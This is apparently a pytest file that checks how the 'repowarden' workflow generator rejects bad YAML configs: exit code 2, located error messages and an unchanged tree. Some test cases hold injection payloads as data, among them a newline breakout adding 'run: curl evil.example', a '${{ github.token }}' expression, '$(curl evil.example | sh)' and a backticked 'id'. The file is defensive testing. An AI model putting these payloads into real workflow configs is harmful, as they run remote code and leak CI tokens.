"""Every bad input of issue 2: exit 2, one located message per problem, tree untouched."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
from repowarden.generator.cli import main
from support.tree import tree_digest

GOOD = """\
repository: octo-org/hello
review:
  admins: [alice]
  reviewers:
    alice: [bob]
    "*": [alice, bob]
  blocking_label: do-not-merge
dismiss:
  schedule: "0,30 * * * *"
dispatch:
  senders:
    - login: octo-bot
      id: 4242
  operations:
    - kind: pip-compile
      requirements: [requirements.in]
"""


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository with its own files and a complete, current generated tree."""
    (tmp_path / ".github/workflows").mkdir(parents=True)
    (tmp_path / ".github/workflows/ci.yml").write_text("name: ci\n")
    (tmp_path / "README.md").write_text("hello\n")
    # Generated from a config without dispatch, so the operations' runtime commands
    # are not needed to set the scene.
    good = GOOD.split("dispatch:")[0]
    (tmp_path / ".github/repowarden.yml").write_text(good)
    assert main(["generate", "--root", str(tmp_path)]) == 0
    return tmp_path


def replace(old: str, new: str) -> str:
    assert old in GOOD
    return GOOD.replace(old, new, 1)


def line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), 1) if needle in line)


# (id, config text, needle on the offending line or None for line 1, what the message says)
CASES = [
    (
        "missing-star",
        replace('    "*": [alice, bob]\n', ""),
        "reviewers:",
        "the '*' entry is missing",
    ),
    (
        "reviewers-not-a-list",
        replace("alice: [bob]", "alice: bob"),
        "alice: bob",
        "valid list",
    ),
    (
        "unknown-key",
        replace("review:\n", "runnner: ubuntu-24.04\nreview:\n"),
        "runnner",
        "unknown key; did you mean 'runner'?",
    ),
    (
        "bad-login",
        replace("admins: [alice]", "admins: [al_ice!]"),
        "admins:",
        "is not a GitHub login: letters, digits and single inner hyphens",
    ),
    (
        "empty-reviewer-set",
        replace("alice: [bob]", "alice: []"),
        "reviewers:",
        "'alice' has no reviewers; list at least one",
    ),
    (
        "cron-not-five-fields",
        replace('"0,30 * * * *"', '"*/5 * *"'),
        "schedule:",
        "not a cron schedule of five fields",
    ),
    (
        "sender-id-not-integer",
        replace("id: 4242", 'id: "4242abc"'),
        "id:",
        "valid integer",
    ),
    (
        "sender-id-float",
        replace("id: 4242", "id: 42.5"),
        "id:",
        "valid integer",
    ),
    (
        "duplicate-operation",
        replace(
            "      requirements: [requirements.in]\n",
            "      requirements: [requirements.in]\n"
            "    - kind: pip-compile\n"
            "      requirements: [other.in]\n",
        ),
        "operations:",
        "operation names must be unique; duplicated: pip-compile",
    ),
    (
        "yaml-breakout-quotes-newline",
        replace("do-not-merge", '"x\\"\\n  injected: true"'),
        "blocking_label",
        "must not contain quotes",
    ),
    (
        "newline-breakout",
        replace("do-not-merge", '"do-not-merge\\n    run: curl evil.example"'),
        "blocking_label",
        "control characters such as newlines",
    ),
    (
        "expression-injection",
        replace("do-not-merge", '"${{ github.token }}"'),
        "blocking_label",
        "must not contain quotes, backticks, '$'",
    ),
    (
        "shell-injection",
        replace("do-not-merge", '"$(curl evil.example | sh)"'),
        "blocking_label",
        "must not contain quotes, backticks, '$'",
    ),
    (
        "shell-injection-in-a-command",
        replace(
            "      requirements: [requirements.in]\n",
            "      requirements: [requirements.in]\n"
            "    - kind: format\n"
            "      commands: [[ruff, format, '`id`']]\n"
            "      paths: [src]\n",
        ),
        "commands:",
        "must not contain quotes, backticks",
    ),
    (
        "not-yaml",
        replace("admins: [alice]", "admins: [alice"),
        None,
        "not valid YAML",
    ),
    ("empty-file", "", None, "the config is empty"),
    ("only-a-comment", "# nothing here\n", None, "the config is empty"),
    ("not-a-mapping", "- just\n- a list\n", None, "must be a YAML mapping"),
]


def assert_located(stderr: str, config: Path, text: str, needle: str | None, says: str) -> None:
    assert "Traceback" not in stderr
    located = re.findall(rf"^{re.escape(str(config))}:(\d+):(\d+): (.*)$", stderr, re.M)
    assert located, stderr
    messages = [m for _, _, m in located]
    assert any(says in m for m in messages), stderr
    line = int(next(ln for ln, _, m in located if says in m))
    if needle is None:
        assert line >= 1
    else:
        assert line == line_of(text, needle), stderr
    # one line per problem, no duplicates
    assert len(messages) == len(set(messages))


@pytest.mark.parametrize(
    ("text", "needle", "says"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_bad_config_exit_2_located_message_tree_unchanged(
    repo: Path, capsys: pytest.CaptureFixture[str], text: str, needle: str | None, says: str
) -> None:
    config = repo / ".github/repowarden.yml"
    config.write_text(text)
    before = tree_digest(repo)
    for args in (["generate"], ["generate", "--check"]):
        assert main([*args, "--root", str(repo)]) == 2
        assert_located(capsys.readouterr().err, config, text, needle, says)
        assert tree_digest(repo) == before


def test_several_problems_get_one_message_each(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = replace("admins: [alice]", "admins: [al_ice!]").replace("id: 4242", "id: x")
    text = text.replace('"0,30 * * * *"', '"* *"')
    config = repo / ".github/repowarden.yml"
    config.write_text(text)
    before = tree_digest(repo)
    assert main(["generate", "--root", str(repo)]) == 2
    err = capsys.readouterr().err
    located = re.findall(rf"^{re.escape(str(config))}:(\d+):\d+: ", err, re.M)
    assert sorted(int(n) for n in located) == [
        line_of(text, "admins:"),
        line_of(text, "schedule:"),
        line_of(text, "id: x"),
    ]
    assert "3 problem(s)" in err
    assert tree_digest(repo) == before


@pytest.mark.parametrize("kind", ["missing", "directory", "not-utf8"])
def test_unreadable_config_path(repo: Path, capsys: pytest.CaptureFixture[str], kind: str) -> None:
    config = repo / "elsewhere.yml"
    if kind == "directory":
        config.mkdir()
    elif kind == "not-utf8":
        config.write_bytes(b"repository: \xff\xfe\n")
    before = tree_digest(repo)
    assert main(["generate", "--root", str(repo), "--config", str(config)]) == 2
    err = capsys.readouterr().err
    assert f"{config}:1:1: " in err
    assert {"missing": "no such file", "directory": "Is a directory", "not-utf8": "not UTF-8"}[
        kind
    ] in err
    assert tree_digest(repo) == before


def test_unreadable_root(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = tree_digest(tmp_path)
    assert main(["generate", "--root", str(tmp_path / "nope")]) == 2
    assert "not a directory" in capsys.readouterr().err
    assert tree_digest(tmp_path) == before


def test_unknown_arguments_are_bad_input(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["generate", "--chek"]) == 2
    assert "unrecognized arguments: --chek" in capsys.readouterr().err


def test_no_traceback_from_a_real_process(repo: Path) -> None:
    config = repo / ".github/repowarden.yml"
    config.write_text("review: [unclosed\n")
    before = tree_digest(repo)
    done = subprocess.run(
        [sys.executable, "-P", "-m", "repowarden.generator", "generate", "--root", str(repo)],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert f"{config}:2:1: not valid YAML" in done.stderr
    assert done.stdout == ""
    assert tree_digest(repo) == before
